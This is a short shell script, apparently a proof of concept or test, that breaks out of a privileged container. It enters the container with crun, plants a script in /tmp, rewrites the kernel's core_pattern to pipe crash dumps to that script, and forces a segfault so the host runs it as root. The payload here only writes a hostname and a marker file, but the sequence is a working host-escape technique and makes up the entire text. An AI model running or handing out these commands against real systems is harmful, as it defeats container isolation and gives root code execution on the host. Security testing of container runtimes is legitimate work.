crun exec --tty privileged /bin/sh
printf '#!/bin/sh\nhostname > /dev/loop0; echo done > /proc/$1/root/tmp/done\n' > /tmp/x; chmod 755 /tmp/x
echo '|/proc/%P/root/tmp/x %P' > /proc/sys/kernel/core_pattern
sh -c 'kill -SEGV $$'
until head -n 1 /dev/loop0 | grep -v 'as it was'; do sleep 1; done
exit
